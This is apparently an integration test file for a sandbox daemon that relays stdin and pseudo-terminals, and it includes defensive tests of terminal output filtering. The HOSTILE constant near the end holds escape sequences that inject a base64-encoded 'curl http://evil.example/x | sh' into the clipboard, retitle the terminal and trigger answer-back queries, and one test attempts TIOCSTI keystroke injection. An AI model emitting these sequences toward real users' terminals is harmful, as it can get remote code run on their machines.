"""stdin and terminals through the daemon (docs/daemon.md "Interactive sessions"): `agentvm run`
with a pipe or a terminal on stdin and `agentvm exec -i` / `exec -it` are relayed by the daemon
over an upgraded connection - real sandboxes, real pipes, real ptys (pty.fork), real clients
(the Python CLI and the compiled one)."""

from __future__ import annotations

import fcntl
import hashlib
import json
import os
import pty
import select
import shutil
import signal
import struct
import subprocess
import sys
import termios
import threading
import time
from pathlib import Path

import pytest

from tests.helpers import agentvm_cmd, needs_root
from tests.integration.test_daemon import agent, av, daemon_up

pytestmark = [pytest.mark.integration, needs_root]

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def daemon(avm_home):
    with daemon_up(avm_home) as home:
        yield home


def records(kind: str | None = None) -> list[dict]:
    recs = [json.loads(x) for x in av("audit", "show", "--json").stdout.decode().splitlines() if x]
    return [r for r in recs if kind is None or r["kind"] == kind]


def daemon_pid(home: Path) -> int:
    return int((home / "run" / "daemon.pid").read_text())


def rss_kib(pid: int) -> int:
    return int(next(x for x in open(f"/proc/{pid}/status") if x.startswith("VmRSS:")).split()[1])


def nfds(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


def wait_for(pred, timeout: float = 20.0, what: str = "the condition"):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        v = pred()
        if v:
            return v
        time.sleep(0.05)
    raise AssertionError(f"timed out waiting for {what}")


_TERMS: list = []


@pytest.fixture(autouse=True)
def _no_client_left():
    """A test that failed midway leaves no client (and so no run) behind."""
    yield
    while _TERMS:
        t = _TERMS.pop()
        try:
            os.kill(t.pid, signal.SIGKILL)
            os.waitpid(t.pid, 0)
        except (ProcessLookupError, ChildProcessError):
            pass


class Term:
    """A program on a real pty (pty.fork): type into it, read what it shows, resize it."""

    def __init__(self, argv: list[str], rows: int = 30, cols: int = 100) -> None:
        self.pid, self.fd = pty.fork()
        if self.pid == 0:  # the child: the CLI on the pty's slave
            os.execvp(argv[0], argv)
        self.resize(rows, cols, signal_child=False)
        self.buf = b""
        _TERMS.append(self)

    def resize(self, rows: int, cols: int, signal_child: bool = True) -> None:
        fcntl.ioctl(self.fd, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))
        if signal_child:
            os.kill(self.pid, signal.SIGWINCH)  # what a terminal emulator's resize does

    def type(self, text: bytes) -> None:
        os.write(self.fd, text)

    def expect(self, pat: bytes, timeout: float = 20.0) -> bytes:
        end = time.monotonic() + timeout
        while pat not in self.buf:
            left = end - time.monotonic()
            r, _, _ = select.select([self.fd], [], [], max(0.0, left))
            if not r:
                raise AssertionError(f"no {pat!r} on the terminal within {timeout}s; it shows {self.buf[-400:]!r}")
            try:
                self.buf += os.read(self.fd, 65536)
            except OSError:
                raise AssertionError(f"the terminal closed before {pat!r}; it showed {self.buf[-400:]!r}") from None
        before, _, self.buf = self.buf.partition(pat)
        return before

    def wait(self, timeout: float = 30.0) -> int:
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            try:
                if select.select([self.fd], [], [], 0.05)[0]:
                    self.buf += os.read(self.fd, 65536)
            except OSError:
                pass
            pid, st = os.waitpid(self.pid, os.WNOHANG)
            if pid:
                os.close(self.fd)
                return os.waitstatus_to_exitcode(st)
            time.sleep(0.05)
        os.kill(self.pid, signal.SIGKILL)
        raise AssertionError("the client did not exit")


def drive_shell(t: Term, rows_cols=(30, 100)) -> None:
    """Type into sh on the pty: stty size, a resize, Ctrl-C interrupting a foreground sleep."""
    t.type(b"stty size; echo M$((40+2))\r")
    before = t.expect(b"M42")
    assert f"{rows_cols[0]} {rows_cols[1]}".encode() in before, before
    t.resize(40, 120)
    deadline = time.monotonic() + 10
    while True:  # the resize frame and the command race: ask until the new size shows
        t.type(b"stty size; echo N$((40+3))\r")
        before = t.expect(b"N43")
        if b"40 120" in before:
            break
        assert time.monotonic() < deadline, f"the resize never reached the sandbox's terminal: {before!r}"
        time.sleep(0.2)
    t.type(b"sleep 60; echo SLEPT$((1+1))\r")
    time.sleep(1.0)
    began = time.monotonic()
    t.type(b"\x03")  # Ctrl-C: the pty's line discipline inside signals the foreground sleep
    t.type(b"echo BACK$((2+2))\r")
    before = t.expect(b"BACK4", timeout=20)
    assert time.monotonic() - began < 15, "Ctrl-C did not interrupt the sleep"
    assert b"SLEPT2" not in before


def test_a_pipe_on_stdin_goes_through_the_daemon(daemon):
    n = len(records("operator.run"))
    r = subprocess.run(agentvm_cmd() + ["run", "--", "sort"], input=b"b\na\nc\n", capture_output=True, timeout=120)
    assert r.returncode == 0, r.stderr.decode()
    assert r.stdout == b"a\nb\nc\n"
    runs = records("operator.run")
    assert len(runs) == n + 1, "the run went through the daemon"
    assert runs[-1]["data"].get("stdin") == "pipe", runs[-1]


def test_a_program_reading_stdin_until_eof_gets_it_all_and_its_exit_code_comes_back(daemon):
    data = os.urandom(3 * 1024 * 1024 + 17)  # several frames, not a multiple of their size
    src = ("import hashlib,sys; d=sys.stdin.buffer.read(); print(len(d), hashlib.sha256(d).hexdigest()); "
           "sys.exit(3)")
    r = subprocess.run(agentvm_cmd() + ["run", "--json", "--", "/usr/bin/python3", "-c", src], input=data,
                       capture_output=True, timeout=120)
    assert r.returncode == 3, r.stderr.decode()
    lines = r.stdout.decode().splitlines()
    assert lines[0] == f"{len(data)} {hashlib.sha256(data).hexdigest()}"
    assert json.loads(lines[-1])["exit_code"] == 3, "--json: the result is the last stdout line"


def test_exec_i_relays_a_pipe_to_a_persistent_worker(daemon, tmp_path):
    av("create", "-f", str(agent(tmp_path, "st-pipe", ["/bin/sh", "-c", "exec sleep 300"])), "--start")
    try:
        r = subprocess.run(agentvm_cmd() + ["exec", "-i", "st-pipe", "--", "/bin/sh", "-c", "wc -l; exit 4"],
                           input=b"x\ny\nz\n", capture_output=True, timeout=60)
        assert r.returncode == 4, r.stderr.decode()
        assert r.stdout.strip() == b"3"
    finally:
        av("rm", "st-pipe", check=False)


def test_exec_it_attaches_a_terminal_typing_resize_and_ctrl_c(daemon, tmp_path):
    av("create", "-f", str(agent(tmp_path, "st-tty", ["/bin/sh", "-c", "exec sleep 300"])), "--start")
    try:
        t = Term(agentvm_cmd() + ["exec", "-it", "st-tty", "--", "/bin/sh"])
        t.expect(b"$ ", timeout=30)  # the shell's prompt: the session is up
        t.type(b"[ -t 0 ] && [ -t 1 ] && echo TERM$((1+1))\r")
        t.expect(b"TERM2")  # the command has a terminal
        drive_shell(t)
        t.type(b"exit 5\r")
        assert t.wait() == 5
        recs = [r for r in records("operator.exec") if r["sandbox"] == "st-tty"]
        assert recs and recs[-1]["data"]["stdin"] == "tty"
        # the worker is still running: exec's end is not the sandbox's
        assert av("exec", "st-tty", "--", "/bin/true").returncode == 0
    finally:
        av("rm", "st-tty", check=False)


def test_run_on_a_terminal_gets_a_terminal_through_the_daemon(daemon):
    n = len(records("operator.run"))
    t = Term(agentvm_cmd() + ["run", "--", "/bin/sh"], rows=33, cols=91)
    t.expect(b"$ ", timeout=30)
    t.type(b"[ -t 0 ] && [ -t 1 ] && echo TERM$((1+1))\r")
    t.expect(b"TERM2")
    drive_shell(t, (33, 91))
    t.type(b"exit 6\r")
    assert t.wait() == 6
    runs = records("operator.run")
    assert len(runs) == n + 1 and runs[-1]["data"]["stdin"] == "tty", "it ran through the daemon, with a tty"


def test_the_master_of_the_sandbox_terminal_is_not_in_the_sandbox(daemon):
    """The pty's master stays in the daemon: inside, no descriptor of the process is a pty
    master (/dev/ptmx), and TIOCSTI on its terminal is refused (seccomp) - nothing typed by the
    agent can reach the operator's terminal."""
    t = Term(agentvm_cmd() + ["run", "--", "/usr/bin/python3", "-c",
                              "import os,fcntl,termios\n"
                              "fds=[]\n"
                              "for f in os.listdir('/proc/self/fd'):\n"
                              " try: fds.append(os.readlink(f'/proc/self/fd/{f}'))\n"
                              " except OSError: pass\n"
                              "print('FDS', sorted(set(fds)))\n"
                              "try:\n fcntl.ioctl(0, termios.TIOCSTI, b'x'); print('TIOCSTI ok')\n"
                              "except OSError as e: print('TIOCSTI refused', e.errno)\n"])
    out = t.expect(b"TIOCSTI", timeout=30)
    rest = t.expect(b"\n", timeout=10)
    code = t.wait()
    assert b"ptmx" not in out, out
    assert b"refused" in rest or code != 0, (out, rest, code)  # refused, or killed by the filter


def test_a_huge_stdin_streams_without_the_daemon_growing(daemon):
    pid = daemon_pid(daemon)
    before = rss_kib(pid)
    peak = [before]
    done = threading.Event()

    def sample():
        while not done.is_set():
            peak[0] = max(peak[0], rss_kib(pid))
            time.sleep(0.05)

    th = threading.Thread(target=sample)
    th.start()
    size = 100 * 1024 * 1024
    try:
        feeder = subprocess.Popen(["head", "-c", str(size), "/dev/zero"], stdout=subprocess.PIPE)
        r = subprocess.run(agentvm_cmd() + ["run", "--", "wc", "-c"], stdin=feeder.stdout, capture_output=True,
                           timeout=300)
        feeder.stdout.close()
        feeder.wait()
    finally:
        done.set()
        th.join()
    assert r.returncode == 0, r.stderr.decode()
    assert r.stdout.strip() == str(size).encode()
    grown = peak[0] - before
    assert grown < 24 * 1024, f"the daemon grew {grown} KiB streaming {size >> 20} MiB of stdin"


def test_a_client_that_goes_away_mid_run_stops_the_run(daemon):
    runs_dir = daemon / "run" / "sandboxes"
    before = set(os.listdir(runs_dir)) if runs_dir.is_dir() else set()
    p = subprocess.Popen(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", "echo started; exec sleep 301"],
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    try:
        assert p.stdout.readline() == b"started\n"
        n_exits = len(records("run.exited"))
        p.kill()  # SIGKILL: no goodbye frame, the connection just closes
        p.wait()
        wait_for(lambda: len(records("run.exited")) > n_exits, 30, "the abandoned run to end")
        assert any(r["kind"] == "operator.run-abandoned" for r in records()), "the abandonment is on the chain"
        wait_for(lambda: set(os.listdir(runs_dir)) <= before, 30, "the run's teardown")
        out = subprocess.run(["pgrep", "-x", "-f", "sleep 301"], capture_output=True).stdout
        assert not out.strip(), f"an orphan of the run: {out!r}"
    finally:
        if p.poll() is None:
            p.kill()
        p.stdin.close()
        p.stdout.close()


def test_sigint_to_a_piped_client_ends_the_run_as_it_ends_an_embedded_one(daemon):
    p = subprocess.Popen(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", "echo started; exec sleep 300"],
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        assert p.stdout.readline() == b"started\n"
        p.send_signal(signal.SIGINT)
        assert p.wait(timeout=30) == 130
        assert any(r["kind"] == "operator.run-signal" and r["data"]["signal"] == "INT" for r in records())
    finally:
        if p.poll() is None:
            p.kill()
        p.stdin.close()


def test_a_stdin_that_never_closes_holds_nothing_after_the_run_exits(daemon):
    pid = daemon_pid(daemon)
    subprocess.run(agentvm_cmd() + ["run", "--", "/bin/true"], input=b"", capture_output=True, timeout=60)
    base = nfds(pid)
    p = subprocess.Popen(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", "exit 9"], stdin=subprocess.PIPE,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        p.stdin.write(b"some input that is never read\n")
        p.stdin.flush()
        assert p.wait(timeout=60) == 9, "the client ends with the run, its stdin still open"
    finally:
        if p.poll() is None:
            p.kill()
        p.stdin.close()
    wait_for(lambda: nfds(pid) <= base, 15, f"the daemon's descriptors back to {base} (now {nfds(pid)})")


@pytest.fixture(scope="module")
def compiled_client(tmp_path_factory):
    if shutil.which("gcc") is None:
        pytest.skip("gcc is needed to build the compiled client (scripts/install.sh installs it)")
    d = tmp_path_factory.mktemp("client")
    entry = d / "agentvm-py"
    entry.write_text(f"#!{sys.executable} -S\nimport sys\nsys.path.append({str(ROOT / 'src')!r})\n"
                     "from agentvm.cli import main\nsys.exit(main())\n")
    entry.chmod(0o755)
    exe = d / "agentvm"
    subprocess.run(["gcc", "-O2", "-Wall", "-Werror", "-o", str(exe), f'-DAGENTVM_PYTHON="{sys.executable}"',
                    f'-DAGENTVM_PY_ENTRY="{entry}"', str(ROOT / "src/agentvm/native/agentvm-client.c")], check=True)
    return exe


def test_the_compiled_client_relays_a_pipe_through_the_daemon(daemon, compiled_client):
    n = len(records("operator.run"))
    r = subprocess.run([str(compiled_client), "run", "--", "sort"], input=b"b\na\n", capture_output=True, timeout=60)
    assert r.returncode == 0 and r.stdout == b"a\nb\n", r.stderr.decode()
    r = subprocess.run([str(compiled_client), "run", "--", "/bin/sh", "-c", "cat >/dev/null; exit 7"],
                       input=os.urandom(5 << 20), capture_output=True, timeout=60)
    assert r.returncode == 7, r.stderr.decode()
    runs = records("operator.run")
    assert len(runs) == n + 2 and all(x["data"].get("stdin") == "pipe" for x in runs[-2:])
    # SIGTERM to the client is forwarded: the run ends as an embedded one would (128+15)
    p = subprocess.Popen([str(compiled_client), "run", "--", "/bin/sh", "-c", "echo up; exec sleep 300"],
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        assert p.stdout.readline() == b"up\n"
        p.terminate()
        assert p.wait(timeout=30) == 143
    finally:
        if p.poll() is None:
            p.kill()
        p.stdin.close()


def test_the_sdk_streams_stdin_and_drives_a_terminal(daemon, tmp_path):
    from agentvm.sdk import Sandbox

    f = agent(tmp_path, "st-sdk", ["/bin/sh", "-c", "exec sleep 300"])
    with Sandbox(f) as sb:
        data = os.urandom(300_000)
        r = sb.exec(["/usr/bin/python3", "-c", "import sys,hashlib; print(hashlib.sha256(sys.stdin.buffer.read())"
                     ".hexdigest())"], stdin=data)
        assert r.exit_code == 0 and r.stdout.decode().strip() == hashlib.sha256(data).hexdigest(), r
        out = b""
        with sb.session(["/bin/sh", "-c", "stty size; read x; echo got-$x; exit 3"], tty=(12, 34)) as s:
            s.send(b"hello\r")
            for kind, payload in s.events():
                if kind == "exit":
                    code = payload[0]
                else:
                    out += payload
        assert code == 3 and b"12 34" in out and b"got-hello" in out, out


def _raw_session(home: Path, body: dict, upgrade: bool = True):
    import socket

    s = socket.socket(socket.AF_UNIX)
    s.settimeout(30)
    s.connect(str(home / "run" / "agentvm.sock"))
    data = json.dumps(body).encode()
    extra = b"Connection: Upgrade\r\nUpgrade: agentvm-frames/1\r\n" if upgrade else b"Connection: close\r\n"
    s.sendall(b"POST /v1/run/attach HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
              % len(data) + extra + b"\r\n" + data)
    return s


def _read_all(s) -> bytes:
    out = b""
    while True:
        try:
            chunk = s.recv(65536)
        except OSError:
            return out
        if not chunk:
            return out
        out += chunk


def test_the_protocol_refuses_what_it_does_not_speak(daemon):
    # no Upgrade header: a 400 before anything runs
    n = len(records("operator.run"))
    s = _raw_session(daemon, {"command": ["/bin/true"]}, upgrade=False)
    answer = _read_all(s)
    s.close()
    assert answer.startswith(b"HTTP/1.1 400") and b"Upgrade: agentvm-frames/1" in answer, answer[:300]
    assert len(records("operator.run")) == n, "nothing ran"
    # an input frame over the limit: the session ends as if the client had gone, the run is stopped
    s = _raw_session(daemon, {"command": ["/bin/sh", "-c", "echo up; exec sleep 302"]})
    head = b""
    while b"up\n" not in head:
        chunk = s.recv(65536)
        assert chunk, head
        head += chunk
    assert head.startswith(b"HTTP/1.1 101"), head[:200]
    n_exits = len(records("run.exited"))
    s.sendall(b"i9999999\n" + b"x" * 1000)
    rest = _read_all(s)
    s.close()
    wait_for(lambda: len(records("run.exited")) > n_exits, 30, "the run to be stopped")
    assert b"x" in rest or rest == b"", rest[-200:]
    assert not subprocess.run(["pgrep", "-x", "-f", "sleep 302"], capture_output=True).stdout.strip()


def test_the_control_plane_serves_a_session_to_an_in_process_adapter(fresh_home, monkeypatch, tmp_path):
    """No socket at all: what the E2B envd process service does - ControlPlane.exec_attached
    and run_attached with a pump.QueueAttached, on the real substrate."""
    import asyncio

    from agentvm.daemon.control import ControlPlane, RunRequest
    from agentvm.daemon.pump import QueueAttached, Resize, StdinData, StdinEof
    from agentvm.paths import default_paths

    monkeypatch.setenv("AGENTVM_UID_BASE", str(int(os.environ.get("AGENTVM_UID_BASE", "3000000")) + 100_000))
    text = agent(tmp_path, "st-inproc", ["/bin/sh", "-c", "exec sleep 300"]).read_text()

    async def main():
        cp = ControlPlane(default_paths())
        await cp.open()
        try:
            await cp.create(text, "st-inproc.yaml")
            await cp.start_and_wait("st-inproc")
            got: list[bytes] = []

            async def sink(stream, data):
                got.append(data)

            io = QueueAttached(sink)
            for ev in (StdinData(b"one\n"), StdinData(b"two\n"), StdinEof()):
                await io.input.put(ev)
            st = await cp.exec_attached("st-inproc", ["/bin/sh", "-c", "wc -l; exit 2"], io)
            assert st.exit_code == 2 and b"".join(got).strip() == b"2", (st, got)
            got.clear()
            io = QueueAttached(sink)
            await io.input.put(Resize(21, 77))
            await io.input.put(StdinData(b"stty size; exit 4\r"))
            st = await cp.exec_attached("st-inproc", ["/bin/sh"], io, tty=(10, 10))
            assert st.exit_code == 4 and b"21 77" in b"".join(got), (st, got)
            got.clear()
            io = QueueAttached(sink)
            await io.input.put(StdinData(b"b\na\n"))
            await io.input.put(StdinEof())
            res = await cp.run_attached(RunRequest(command=("sort",), network="none"), io)
            assert res.exit_code == 0 and b"".join(got) == b"a\nb\n", (res, got)
            await cp.remove("st-inproc")
        finally:
            await cp.close()

    asyncio.run(main())


def test_an_exec_terminal_whose_client_vanishes_hangs_up_and_holds_nothing(daemon, tmp_path):
    av("create", "-f", str(agent(tmp_path, "st-hup", ["/bin/sh", "-c", "exec sleep 300"])), "--start")
    try:
        pid = daemon_pid(daemon)
        av("exec", "st-hup", "--", "/bin/true")
        base = nfds(pid)
        t = Term(agentvm_cmd() + ["exec", "-it", "st-hup", "--", "/bin/cat"])
        t.type(b"READY\r")
        t.expect(b"READY\r\nREADY")  # the terminal's echo, then cat's copy: cat reads its terminal
        os.kill(t.pid, signal.SIGKILL)  # the client vanishes: no frame, the connection closes
        os.waitpid(t.pid, 0)
        _TERMS.remove(t)
        wait_for(lambda: any(r["kind"] == "operator.exec-abandoned" and r["sandbox"] == "st-hup" for r in records()),
                 20, "the abandoned exec on the chain")
        # the shell got its hang-up: only the worker's own process is left, and the daemon's
        # descriptors are back where they were
        wait_for(lambda: nfds(pid) <= base, 20, f"the daemon's descriptors back to {base} (now {nfds(pid)})")
        out = av("exec", "st-hup", "--", "ps", "-eo", "comm").stdout.decode().split()
        assert "sleep" in out and "cat" not in out, out
    finally:
        av("rm", "st-hup", check=False)


# ---------------------------------------------------------------- what reaches the terminal
# The sandbox writes what would make the operator's terminal act for it: OSC 52 (the clipboard),
# a title, DSR / DA / DECRQSS queries (the terminal types its answer into its own input). On a
# terminal none of it arrives; the colours do; --raw-output (AGENTVM_RAW_OUTPUT=1) passes it all.
HOSTILE = (r"printf 'A\033]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\007B\033]0;pwned\007C\033[6nD"
           r"\033[cE\033P$qm\033\\F\033[31mRED\033[0mG\033]8;;http://x/\033\\LINK\033]8;;\033\\END%s\n' $((40+2))")
HOSTILE_BITS = [b"]52;", b"pwned", b"\x1b[6n", b"\x1b[c", b"\x1bP", b"$qm"]


def on_terminal(argv: list[str], env: dict | None = None, stdin_null: bool = False) -> tuple[int, bytes]:
    """``argv`` on a real pty (pty.fork): its exit code and every byte the terminal received."""
    pid, fd = pty.fork()
    if pid == 0:
        try:
            if env:
                os.environ.update(env)
            if stdin_null:
                nul = os.open(os.devnull, os.O_RDONLY)
                os.dup2(nul, 0)
            os.execvp(argv[0], argv)
        finally:
            os._exit(127)
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 30, 100, 0, 0))
    t = Term.__new__(Term)
    t.pid, t.fd, t.buf = pid, fd, b""
    _TERMS.append(t)
    code = t.wait(120)
    _TERMS.remove(t)
    return code, t.buf


def assert_filtered(shown: bytes) -> None:
    assert b"END42" in shown, shown
    for bit in HOSTILE_BITS:
        assert bit not in shown, (bit, shown)
    assert b"\x1b[31mRED\x1b[0m" in shown and b"\x1b]8;;http://x/\x1b\\LINK" in shown, shown
    assert b"ABCDEFG" in shown.replace(b"\x1b[31mRED\x1b[0m", b""), shown


@pytest.mark.parametrize("how", ["tty", "stdin-null"])
def test_the_terminal_gets_no_clipboard_title_or_answer_back_through_the_daemon(daemon, how):
    n = len(records("operator.run"))
    code, shown = on_terminal(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", HOSTILE], stdin_null=how == "stdin-null")
    assert code == 0, shown
    assert_filtered(shown)
    assert len(records("operator.run")) == n + 1, "through the daemon"
    code, shown = on_terminal(agentvm_cmd() + ["run", "--raw-output", "--", "/bin/sh", "-c", HOSTILE],
                              stdin_null=how == "stdin-null")
    assert code == 0 and b"END42" in shown, shown
    assert all(bit in shown for bit in HOSTILE_BITS), shown


def test_the_compiled_client_filters_a_terminal_on_stdout(daemon, compiled_client):
    n = len(records("operator.run"))
    code, shown = on_terminal([str(compiled_client), "run", "--", "/bin/sh", "-c", HOSTILE], stdin_null=True)
    assert code == 0, shown
    assert_filtered(shown)
    code, shown = on_terminal([str(compiled_client), "run", "--", "/bin/sh", "-c", HOSTILE],
                              env={"AGENTVM_RAW_OUTPUT": "1"}, stdin_null=True)
    assert code == 0 and all(bit in shown for bit in HOSTILE_BITS), shown
    assert len(records("operator.run")) == n + 2


def test_exec_on_a_terminal_is_filtered(daemon, tmp_path):
    av("create", "-f", str(agent(tmp_path, "st-esc", ["/bin/sh", "-c", "exec sleep 300"])), "--start")
    try:
        for args in (["exec"], ["exec", "-it"]):
            code, shown = on_terminal(agentvm_cmd() + args + ["st-esc", "--", "/bin/sh", "-c", HOSTILE])
            assert code == 0, shown
            assert_filtered(shown)
        code, shown = on_terminal(agentvm_cmd() + ["exec", "--raw-output", "st-esc", "--", "/bin/sh", "-c", HOSTILE])
        assert code == 0 and all(bit in shown for bit in HOSTILE_BITS), shown
    finally:
        av("rm", "st-esc", check=False)


@pytest.mark.parametrize("how", ["tty", "stdin-null"])
def test_the_embedded_run_filters_the_terminal_too(avm_home, how):
    code, shown = on_terminal(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", HOSTILE],
                              env={"AGENTVM_NO_DAEMON": "1"}, stdin_null=how == "stdin-null")
    assert code == 0, shown
    assert_filtered(shown)
    code, shown = on_terminal(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", HOSTILE],
                              env={"AGENTVM_NO_DAEMON": "1", "AGENTVM_RAW_OUTPUT": "1"}, stdin_null=how == "stdin-null")
    assert code == 0 and all(bit in shown for bit in HOSTILE_BITS), shown


def test_a_pipe_gets_the_exact_bytes(daemon):
    r = subprocess.run(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", HOSTILE], stdin=subprocess.DEVNULL,
                       capture_output=True, timeout=120)
    assert r.returncode == 0 and all(bit in r.stdout for bit in HOSTILE_BITS), r.stdout


def test_an_embedded_run_in_the_daemons_home_leaves_its_workers_able_to_log(daemon):
    """An embedded run made the logs folder 0700, and every later run through the daemon failed
    (its confined gate worker, not root, could not open its decision log: exit 125)."""
    r = subprocess.run(agentvm_cmd() + ["run", "--", "/bin/true"], env={**os.environ, "AGENTVM_NO_DAEMON": "1"},
                       stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
    assert r.returncode == 0, r.stderr
    r = subprocess.run(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", "echo through-the-daemon"],
                       stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
    assert r.returncode == 0 and r.stdout == b"through-the-daemon\n", r.stderr
